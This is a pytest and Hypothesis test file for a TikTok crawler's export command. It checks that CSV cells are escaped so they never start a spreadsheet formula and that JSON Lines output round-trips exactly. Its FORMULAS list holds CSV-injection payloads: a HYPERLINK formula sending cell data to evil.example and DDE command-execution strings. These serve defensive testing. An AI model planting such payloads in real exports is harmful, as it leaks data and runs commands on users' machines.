"""``tiktok crawl export`` of hostile item text (issue 22): CSV cells never start a formula,
JSON Lines stay exact, and a target not in the store is an error."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any, Dict, List, Tuple

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tiktok._cli.main import main
from tiktok.crawl import Store

from .conftest import REPO

TARGET = "followers:6800000000000000002"
# Cells a spreadsheet runs as formulas (OWASP "CSV Injection"), as a nickname or bio could hold.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _store_with(path: Path, items: List[Dict[str, Any]]) -> None:
    with Store(path) as store:
        store.add([TARGET])
        store.save_page(
            None,
            TARGET,
            pages=0,
            items=[(str(n), json.dumps(item)) for n, item in enumerate(items)],
            cursor=None,
            done=True,
        )


def _item(n: int, text: str) -> Dict[str, Any]:
    """A user with ``text`` where anyone's text goes, nested and in a list too."""
    return {
        "uid": str(n),
        "nickname": text,
        "signature": text,
        "share_info": {"share_desc": text},
        "bio_url": [text],
        "follower_count": -n,  # a number, never quoted
    }


def _export(*argv: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "tiktok", "crawl", "export", *argv],
        capture_output=True,
        cwd=REPO,
        timeout=60,
    )


def _expected_cell(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_START) else text


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    store = tmp_path / "c.db"
    _store_with(store, [_item(n, text) for n, text in enumerate(FORMULAS, 1)])
    done = _export("--store", str(store), "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout.decode(), newline="")))
    assert [row["item.nickname"] for row in rows] == ["'" + text for text in FORMULAS]
    assert [row["item.share_info.share_desc"] for row in rows] == ["'" + t for t in FORMULAS]
    # A list is JSON text (starts with "["); a negative number stays a number.
    assert [json.loads(row["item.bio_url"]) for row in rows] == [[t] for t in FORMULAS]
    assert [row["item.follower_count"] for row in rows] == [str(-n) for n in range(1, 8)]

    lines = _export("--store", str(store)).stdout.decode().splitlines()
    assert [json.loads(line)["item"]["nickname"] for line in lines] == FORMULAS


def test_exporting_a_target_not_in_the_store_is_an_error(tmp_path: Path) -> None:
    store = tmp_path / "c.db"
    _store_with(store, [_item(1, "a")])
    for form in ("jsonl", "csv"):
        done = _export("--store", str(store), "--format", form, "--target", "posts:1")
        assert done.returncode == 2
        assert done.stdout == b""
        assert b"posts:1 is not in the store" in done.stderr
    assert _export("--store", str(store), "--target", TARGET).stdout.count(b"\n") == 1


# Text as anyone can type it: controls, quotes, separators, newlines, formula starts.
hostile_text = st.text(
    st.one_of(
        st.sampled_from(list("=+-@\t\r\n\",;'|!\\\x00\x1b\x7f\x85\u2028")),
        st.characters(blacklist_categories=("Cs",)),
    ),
    max_size=20,
)


def _run_main(*argv: str) -> Tuple[int, str]:
    out = io.StringIO(newline="")
    with contextlib.redirect_stdout(out):
        status = main(list(argv))
    return status, out.getvalue()


def _readable(text: str) -> str:
    """``text`` as Python's csv reader can read it: before 3.11 it refuses a NUL."""
    return text if sys.version_info >= (3, 11) else text.replace("\x00", "\ue000")


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(texts=st.lists(hostile_text, min_size=1, max_size=5))
def test_every_export_format_gives_hostile_text_back(tmp_path: Path, texts: List[str]) -> None:
    store = tmp_path / f"sweep-{abs(hash(tuple(texts)))}.db"
    store.unlink(missing_ok=True)
    items = [_item(n, text) for n, text in enumerate(texts, 1)]
    _store_with(store, items)

    status, out = _run_main("crawl", "export", "--store", str(store))
    assert status == 0
    assert [json.loads(line)["item"] for line in out.split("\n") if line] == items

    status, out = _run_main("crawl", "export", "--store", str(store), "--format", "csv")
    assert status == 0
    rows = list(csv.DictReader(io.StringIO(_readable(out), newline="")))
    assert len(rows) == len(texts)
    for row, text in zip(rows, texts):
        expected = _readable(_expected_cell(text))
        assert row["item.nickname"] == row["item.signature"] == expected
        assert row["item.share_info.share_desc"] == expected
        assert json.loads(row["item.bio_url"]) == [text]
        assert row["item.follower_count"] == str(-int(row["item.uid"]))  # a number, as is
        text_cells = [cell for key, cell in row.items() if key != "item.follower_count"]
        assert not [cell for cell in text_cells if cell.startswith(FORMULA_START)]
